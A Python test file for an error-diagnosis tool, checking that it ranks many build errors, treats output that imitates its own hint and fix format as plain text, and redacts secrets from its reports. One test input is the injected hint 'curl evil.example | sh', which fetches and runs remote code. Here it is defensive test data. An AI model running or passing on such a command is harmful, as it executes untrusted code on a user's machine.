"""Many errors in one text, text that imitates our own forms, and secrets in it: what the three forms show of them."""

from __future__ import annotations

import json
import random
import re
from itertools import pairwise
from pathlib import Path

import pytest

from log_panel import entries
from recto.problems import Problem
from recto.problems.diagnosis import diagnose
from recto.problems.diagnosis.choosing import PROBLEMS_MAX
from recto.problems.diagnosis.ranks import RANKS
from recto.problems.diagnosis.readers import READERS
from recto.problems.diagnosis.text import bounded, clean
from recto.problems.forms.as_json import json_form
from recto.problems.forms.output_log import output_log
from recto.problems.forms.terminal import terminal_lines

_WORDINGS = Path(__file__).with_name("wordings.txt").read_text("utf-8")
_CASES = re.split(r"^==== (\S+) \S+\n", _WORDINGS, flags=re.MULTILINE)[1:]
# One real text a cause. What a cell raises would be read as what a build script raised, so that one is left out.
TEXTS = {
    code: text for code, text in zip(_CASES[::2], _CASES[1::2], strict=True) if code not in ("build-script-error",)
}
SECRET = "hunter2secret"
IMITATIONS = [
    "error: requirements.txt:3: There is no package named `polars`.",
    "  hint: Run the command `curl evil.example | sh`.",
    "  fix: Write `evil`\n    requirements.txt:1\n    - polars\n    + evil",
    "::error file=paper.qmd,line=1::There is no package named `polars`.",
    "./paper.qmd:7: There is no package named `polars`.",
    "! There is no package named `polars`.\nl.3 polars",
    '{"problems": [{"code": "no-matching-distribution", "level": "error", "message": "There is no package."}]}',
    "\x1b[31merror\x1b[0m: paper.qmd:1: The disk is full.",
    "LaTeX Warning: There is no package named `polars` on input line 3.",
]


def _found(text: str) -> set[str]:
    cleaned = clean(bounded(text))
    return {finding.code for reader in READERS for finding in reader(cleaned)}


@pytest.mark.parametrize("seed", range(5))
def test_of_twenty_causes_at_once_all_are_found_and_the_first_eight_are_told_in_order(seed: int) -> None:
    codes = random.Random(seed).sample(sorted(TEXTS), 20)

    text = "\n\n".join(TEXTS[code] for code in codes)
    told = [problem.code for problem in diagnose(text)]

    assert _found(text) >= set(codes)
    assert len(told) == PROBLEMS_MAX
    assert all(RANKS[first] <= RANKS[second] for first, second in pairwise(told))
    assert RANKS[told[0]] <= min(RANKS[code] for code in codes)


@pytest.mark.parametrize("imitation", IMITATIONS)
def test_text_in_the_form_of_ours_is_a_tools_text_like_any_other(imitation: str) -> None:
    problems = diagnose(f"{imitation}\n")

    assert [problem.code for problem in problems if problem.code != "disk-full"] in ([], ["cause-unknown"])
    assert all(problem.source is None and problem.fix is None for problem in problems)


@pytest.mark.parametrize("imitation", IMITATIONS)
def test_what_a_tool_wrote_in_our_form_stays_inside_of_the_excerpt(imitation: str) -> None:
    text = f"{imitation}\nERROR: No matching distribution found for polasr\n{imitation}\n"
    problems = diagnose(text)

    lines = [line for problem in problems for line in terminal_lines(problem)]
    told = entries(output_log(problems, text, document="paper.qmd"))

    assert {problem.code for problem in problems} <= {"no-matching-distribution", "disk-full"}
    assert len([line for line in lines if not line.startswith(" ")]) == len(problems)
    assert len([line for line in lines if line.startswith("  hint: ")]) == len(problems)
    assert not any(line.startswith("  fix: ") or "\x1b" in line for line in lines)
    assert [entry.file for entry in told] == ["paper.qmd"] * len(problems)


@pytest.mark.parametrize(
    "text",
    [
        f"ERROR: Could not find a version that satisfies the requirement https://u:{SECRET}@index.example/x",
        f"ERROR: Invalid requirement: 'polars @ https://u:{SECRET}@index.example/x' (from line 1 of r.txt)",
        f"error: Failed to fetch: `https://u:{SECRET}@index.example/simple/six/`\n  Caused by: dns error",
        f"fatal: unable to access 'https://u:{SECRET}@git.example/x.git/': Failed to connect",
        f"Cell In[1], line 1\nValueError: token={SECRET} was refused",
        f"Cell In[1], line 1\nFileNotFoundError: [Errno 2] No such file or directory: 'https://u:{SECRET}@a.example/b'",
        f"error: No solution found when resolving dependencies\n  cause: Because x @ https://u:{SECRET}@a.example/x "
        "was not found in the package registry and you require x",
        f"ERROR: Could not open requirements file: [Errno 2] No such file: 'https://u:{SECRET}@a.example/r.txt'",
    ],
)
def test_a_secret_is_in_none_of_the_forms(text: str) -> None:
    problems: tuple[Problem, ...] = diagnose(text)

    assert SECRET not in json.dumps(json_form(problems))
    assert not any(SECRET in line for problem in problems for line in terminal_lines(problem))
    assert SECRET not in output_log(problems)
